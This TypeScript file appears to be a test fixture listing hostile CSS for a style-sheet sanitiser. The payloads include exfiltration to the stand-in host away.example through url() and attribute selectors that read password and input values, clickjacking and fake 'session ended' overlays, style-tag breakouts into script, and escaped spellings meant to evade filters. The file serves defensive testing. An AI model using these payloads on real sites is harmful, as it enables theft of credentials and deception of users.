/** Where a style sheet or a logo that gets through would send what it has stolen. */
export const AWAY = 'http://away.example'

const FETCHES = [
  `@import url("${AWAY}/1.css");`,
  `@import "${AWAY}/2.css" screen;`,
  `@import url(${AWAY}/3.css) layer(a) supports(display: grid);`,
  `@font-face { font-family: Inter; src: url(${AWAY}/4.woff2) } * { font-family: Inter }`,
  `@namespace svg url(${AWAY}/5);`,
  `@property --p { syntax: "<image>"; inherits: true; initial-value: url(${AWAY}/6.png) } .t-bar { background: var(--p) }`,
  `@counter-style c { system: cyclic; symbols: url(${AWAY}/7.png) } li { list-style: c }`,
  `@page { background: url(${AWAY}/8.png) }`,
  `@document url-prefix("http") { .t-bar { background: url(${AWAY}/9.png) } }`,
  `@layer a { .t-bar { background: url(${AWAY}/10.png) } }`,
  `@scope (.t-bar) { a { background: url(${AWAY}/11.png) } }`,
  `@container (min-width: 1px) { .t-bar { background: url(${AWAY}/12.png) } }`,
  `@supports (background: url(${AWAY}/13.png)) { .t-bar { background: url(${AWAY}/13.png) } }`,
  `@media screen { .t-bar { background-image: url(${AWAY}/14.png) } }`,
  `@keyframes k { to { background: url(${AWAY}/15.png) } } .t-bar { animation: k 1ms }`,
  `.t-bar { background: url(${AWAY}/16.png) }`,
  `.t-bar { background: url( "${AWAY}/17.png" ) }`,
  `.t-bar { background: src("${AWAY}/18.png") }`,
  `.t-bar { background: image-set("${AWAY}/19.png" 1x) }`,
  `.t-bar { background: -webkit-image-set(url(${AWAY}/20.png) 1x) }`,
  `.t-bar { background: image("${AWAY}/21.png") }`,
  `.t-bar { background: cross-fade(url(${AWAY}/22.png), red) }`,
  `.t-bar { background: -webkit-cross-fade(url(${AWAY}/23.png), url(${AWAY}/24.png), 50%) }`,
  `.t-bar { background: element(#root) }`,
  `.t-bar { background: paint(away) }`,
  `.t-bar { mask: url(${AWAY}/25.svg#m) }`,
  `.t-bar { -webkit-mask-image: url(${AWAY}/26.svg) }`,
  `.t-bar { filter: url(${AWAY}/27.svg#f) }`,
  `.t-bar { backdrop-filter: url(${AWAY}/28.svg#f) }`,
  `.t-bar { clip-path: url(${AWAY}/29.svg#c) }`,
  `.t-bar { cursor: url(${AWAY}/30.cur), auto }`,
  `.t-bar { border-image: url(${AWAY}/31.png) 1 }`,
  `.t-bar { shape-outside: url(${AWAY}/32.png); float: left }`,
  `li { list-style-image: url(${AWAY}/33.png) }`,
  `.t-bar::before { content: url(${AWAY}/34.png) }`,
  `.t-bar::before { content: "seen" attr(href) }`,
  `.t-bar { --tenant-x: url(${AWAY}/35.png); background: var(--tenant-x) }`,
  `:root { --bg: url(${AWAY}/36.png) }`,
  `.t-bar { offset-path: url(${AWAY}/37.svg#p) }`,
  `.t-bar { marker: url(${AWAY}/38.svg#m) }`,
  `.t-bar { behavior: url(${AWAY}/39.htc) }`,
  `.t-bar { -moz-binding: url(${AWAY}/40.xml#b) }`,
  `.t-bar { background: expression(document.location='${AWAY}/41') }`,
  `.t-bar { background: url(javascript:document.title=1) }`,
  `.t-bar { background: url(data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22/%3E) }`,
]

const GRABS = [
  `input[value^="a"] { background: url(${AWAY}/a) }`,
  `input[type=password][value$="b"] ~ * { color: red }`,
  `form:has(input[value*="c"]) { background: url(${AWAY}/c) }`,
  `a[href*="token"] { background: url(${AWAY}/d) }`,
  `html, body { display: none }`,
  `* { position: fixed; inset: 0; z-index: 99999 }`,
  `.t-button { position: absolute; inset: 0; opacity: 0 }`,
  `body::after { content: "Your session has ended. Call 555-0100"; position: fixed; inset: 0; background: white }`,
  `#root { visibility: hidden }`,
  `:root { --bg: red; --text: red; --primary: red }`,
  `body > * { pointer-events: none }`,
  `input { caret-color: transparent; -webkit-text-security: none }`,
]

const BREAKS = [
  '} body { display: none } .x {',
  '</style><script>document.title = "broken out"</script>',
  '<!-- .t-bar { color: red } --> </style><img src=x onerror="document.title=1">',
  `/* */ @import url(${AWAY}/x.css); /*`,
  `.t-bar { color: red; /* } @import url(${AWAY}/y.css); .a { */ }`,
  `@charset "utf-7"; +AHs-background:url(${AWAY}/z)+AH0-`,
  `.t-bar { background: red; background: url(${AWAY}/w.png`,
  `@media { @import url(${AWAY}/v.css); .a { & .b { background: url(${AWAY}/u.png) } } }`,
  '.a{'.repeat(400),
  '('.repeat(2000),
]

/** The same sheets spelled as browsers also understand them. */
const spellings: ((sheet: string) => string)[] = [
  (sheet) => sheet,
  (sheet) => sheet.replaceAll('url(', 'u\\72l(').replaceAll('@import', '@\\69mport'),
  (sheet) => sheet.replaceAll('url(', 'URL(').replaceAll('@import', '@IMPORT').replaceAll('url-prefix', 'URL-prefix'),
]

export const hostileSheets: readonly string[] = [...FETCHES, ...GRABS, ...BREAKS].flatMap((sheet) => [
  ...new Set(spellings.map((spelled) => spelled(sheet))),
])
